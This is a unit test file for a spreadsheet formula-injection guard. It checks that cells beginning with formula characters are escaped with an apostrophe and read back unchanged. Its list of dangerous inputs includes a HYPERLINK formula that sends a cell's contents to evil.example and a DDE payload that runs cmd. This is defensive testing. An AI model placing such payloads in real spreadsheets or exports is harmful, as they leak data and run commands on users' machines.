import { neutraliseFormula, restoreNeutralised } from './formula-guard';

describe('spreadsheet formula guard', () => {
  it('issue 12 point 10: a cell starting with = + - @ tab or CR is written as text, and reads back unchanged', () => {
    const dangerous = [
      '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '+86 20 8888 6666',
    ];
    for (const v of dangerous) {
      const safe = neutraliseFormula(v);
      expect(safe).toBe(`'${v}`);
      expect(restoreNeutralised(safe)).toBe(v);
    }
  });

  it('leaves ordinary text and plain numbers alone (a signed figure is not a formula)', () => {
    for (const v of ['张三', 'zs@gd.example.cn', '', '—', '-12.5%', '+3.0%', '-7', '13800138000', "it's"]) {
      expect(neutraliseFormula(v)).toBe(v);
      expect(restoreNeutralised(v)).toBe(v);
    }
  });

  it('round-trips values that themselves begin with an apostrophe before a formula character', () => {
    for (const v of ["'=1+1", "''@x", "'-5", "'"]) {
      expect(restoreNeutralised(neutraliseFormula(v))).toBe(v);
    }
  });
});
